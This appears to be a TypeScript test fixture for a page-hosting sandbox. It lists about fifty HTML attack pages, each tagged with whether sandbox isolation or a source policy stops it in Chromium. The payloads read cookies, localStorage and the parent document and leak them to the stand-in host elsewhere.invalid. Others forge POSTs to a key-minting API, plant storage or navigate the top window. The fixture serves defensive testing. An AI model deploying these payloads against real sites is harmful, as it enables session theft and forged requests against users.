/**
 * Pages that try to act on somebody who opens them. Each says by which layer alone it is stopped, as
 * measured in Chromium: `sandbox` the origin of its own, `sources` the list of what it may load.
 */

export type Layer = "sandbox" | "sources";

export interface Attack {
  readonly name: string;
  readonly html: string;
  /** Files beside the page. */
  readonly files?: Readonly<Record<string, string>>;
  readonly stoppedBy: readonly Layer[];
}

/** Where what is stolen is sent: replaced by an address of another origin, and the attack's name. */
export const ELSEWHERE = "http://elsewhere.invalid";

const SOURCES: readonly Layer[] = ["sources"];
const SANDBOX: readonly Layer[] = ["sandbox"];
const EITHER: readonly Layer[] = ["sandbox", "sources"];

const script = (text: string): string => `<script>${text}</script>`;
/** Tells the outside by every way there is, so that what was read shows. */
const leak = (value: string): string =>
  `new Image().src='${ELSEWHERE}/leak?'+encodeURIComponent(${value});` +
  `try{top.acted.push(NAME)}catch(e){}`;
const act = (text: string): string => script(`try{${text}}catch(e){}`);

export const ATTACKS: readonly Attack[] = [
  // The interface of the node.
  {
    name: "api-fetch",
    html: act(`fetch('/api/health').then(r=>r.text()).then(t=>{${leak("t")}})`),
    stoppedBy: SOURCES,
  },
  {
    name: "api-xhr",
    html: act(`let x=new XMLHttpRequest();x.open('GET','/api/health');x.send()`),
    stoppedBy: SOURCES,
  },
  {
    name: "api-post",
    html: act(`fetch('/api/demo-key/mint',{method:'POST',mode:'no-cors',body:'{}'})`),
    stoppedBy: SOURCES,
  },
  {
    name: "api-beacon",
    html: act(`navigator.sendBeacon('/api/demo-key/mint','{}')`),
    stoppedBy: SOURCES,
  },
  { name: "api-image", html: `<img src="/api/health">`, stoppedBy: SOURCES },
  { name: "api-script", html: `<script src="/api/openapi.json"></script>`, stoppedBy: SOURCES },
  { name: "api-style", html: `<link rel="stylesheet" href="/api/health">`, stoppedBy: SOURCES },
  { name: "api-css-import", html: `<style>@import "/api/health";</style>`, stoppedBy: SOURCES },
  {
    name: "api-form",
    html: `<form id="f" method="post" action="/api/demo-key/mint" target="_self"></form>${act("f.submit()")}`,
    stoppedBy: EITHER,
  },
  { name: "api-object", html: `<object data="/api/health"></object>`, stoppedBy: SOURCES },
  { name: "api-embed", html: `<embed src="/api/health">`, stoppedBy: SOURCES },
  { name: "api-frame", html: `<iframe src="/api/health"></iframe>`, stoppedBy: SOURCES },
  { name: "api-worker", html: act(`new Worker('/api/openapi.json')`), stoppedBy: EITHER },
  { name: "api-events", html: act(`new EventSource('/api/health')`), stoppedBy: SOURCES },
  {
    name: "api-socket",
    html: act(`new WebSocket(location.href.replace('http','ws').replace(/[/]s[/].*/,'/api/x'))`),
    stoppedBy: SOURCES,
  },
  {
    name: "api-module",
    html: `<script type="module">import "/api/openapi.json";</script>`,
    stoppedBy: SOURCES,
  },
  {
    name: "api-module-import",
    html: act(`import('/api/openapi.json').catch(()=>0)`),
    stoppedBy: SOURCES,
  },
  { name: "api-prefetch", html: `<link rel="prefetch" href="/api/health">`, stoppedBy: SOURCES },
  {
    name: "api-preload",
    html: `<link rel="preload" as="fetch" href="/api/health">`,
    stoppedBy: SOURCES,
  },
  { name: "api-base", html: `<base href="/api/"><img src="health?api-base">`, stoppedBy: SOURCES },
  { name: "api-svg-use", html: `<svg><use href="/api/health#a"/></svg>`, stoppedBy: EITHER },
  {
    name: "api-video-track",
    html:
      `<video><track default src="/api/health"></video>` +
      act("document.querySelector('track').track.mode='showing'"),
    stoppedBy: EITHER,
  },
  // Another page of the node.
  {
    name: "other-page-image",
    html: `<img src="/s/attacks/p/victim/secret.svg">`,
    stoppedBy: SOURCES,
  },
  {
    name: "other-page-frame",
    html: `<iframe src="/s/attacks/p/victim/"></iframe>`,
    stoppedBy: SOURCES,
  },
  {
    name: "other-page-script",
    html: `<script src="/s/attacks/p/victim/secret.js"></script>`,
    stoppedBy: SOURCES,
  },
  // What the browser keeps for the node, and the frame around the page.
  {
    name: "cookie",
    html: act(`if(document.cookie){${leak("document.cookie")}}`),
    stoppedBy: SANDBOX,
  },
  { name: "cookie-write", html: act(`document.cookie='planted=1; path=/'`), stoppedBy: SANDBOX },
  {
    name: "local-storage",
    html: act(`let v=localStorage.getItem('secret');${leak("v")}`),
    stoppedBy: SANDBOX,
  },
  {
    name: "session-storage",
    html: act(`sessionStorage.setItem('planted','1');${leak("'session'")}`),
    stoppedBy: SANDBOX,
  },
  {
    name: "indexed-db",
    html: act(`let o=indexedDB.open('planted');o.onsuccess=()=>{${leak("'db'")}}`),
    stoppedBy: SANDBOX,
  },
  {
    name: "caches",
    html: act(`caches.open('planted').then(()=>{${leak("'cache'")}})`),
    stoppedBy: SANDBOX,
  },
  {
    name: "service-worker",
    html: act(`navigator.serviceWorker.register('sw.js').then(()=>{${leak("'sw'")}})`),
    files: { "sw.js": "self.x=1" },
    stoppedBy: SANDBOX,
  },
  {
    name: "parent-read",
    html: act(leak("parent.document.body.innerHTML.length")),
    stoppedBy: SANDBOX,
  },
  { name: "parent-write", html: act(`parent.acted.push(NAME)`), stoppedBy: SANDBOX },
  { name: "top-navigate", html: act(`top.location='${ELSEWHERE}/top'`), stoppedBy: SANDBOX },
  {
    name: "top-link",
    html: `<a id="a" target="_top" href="${ELSEWHERE}/toplink">x</a>${act("a.click()")}`,
    stoppedBy: SANDBOX,
  },
  {
    name: "broadcast",
    html: act(`new BroadcastChannel('calc').postMessage(NAME)`),
    stoppedBy: SANDBOX,
  },
  // The network.
  { name: "net-image", html: `<img src="${ELSEWHERE}/image">`, stoppedBy: SOURCES },
  {
    name: "net-fetch",
    html: act(`fetch('${ELSEWHERE}/fetch',{mode:'no-cors'})`),
    stoppedBy: SOURCES,
  },
  { name: "net-script", html: `<script src="${ELSEWHERE}/script"></script>`, stoppedBy: SOURCES },
  {
    name: "net-style",
    html: `<style>body{background:url(${ELSEWHERE}/css)}</style>`,
    stoppedBy: SOURCES,
  },
  {
    name: "net-font",
    html: `<style>@font-face{font-family:f;src:url(${ELSEWHERE}/font)}p{font-family:f}</style><p>x</p>`,
    stoppedBy: SOURCES,
  },
  {
    name: "net-form",
    html: `<form id="f" action="${ELSEWHERE}/form"></form>${act("f.submit()")}`,
    stoppedBy: EITHER,
  },
  { name: "net-frame", html: `<iframe src="${ELSEWHERE}/frame"></iframe>`, stoppedBy: SOURCES },
  {
    name: "net-srcdoc",
    html: `<iframe srcdoc="<img src='${ELSEWHERE}/srcdoc'>"></iframe>`,
    stoppedBy: SOURCES,
  },
  {
    name: "net-blob-frame",
    html: act(
      "let f=document.createElement('iframe');" +
        `let b=new Blob(["<img src='${ELSEWHERE}/blob'>"],{type:'text/html'});` +
        "f.src=URL.createObjectURL(b);document.body.append(f)",
    ),
    stoppedBy: SOURCES,
  },
  {
    name: "net-data-frame",
    html: `<iframe src="data:text/html,<img src='${ELSEWHERE}/data'>"></iframe>`,
    stoppedBy: SOURCES,
  },
  {
    name: "net-worker",
    html: act(`new Worker(URL.createObjectURL(new Blob(["fetch('${ELSEWHERE}/worker')"])))`),
    stoppedBy: SOURCES,
  },
  {
    name: "net-ping",
    html: `<a id="a" ping="${ELSEWHERE}/ping" href="#x">x</a>${act("a.click()")}`,
    stoppedBy: SOURCES,
  },
  {
    name: "net-media",
    html: `<video src="${ELSEWHERE}/video" autoplay></video>`,
    stoppedBy: SOURCES,
  },
  {
    name: "net-svg-image",
    html: `<svg><image href="${ELSEWHERE}/svgimage"/></svg>`,
    stoppedBy: SOURCES,
  },
];
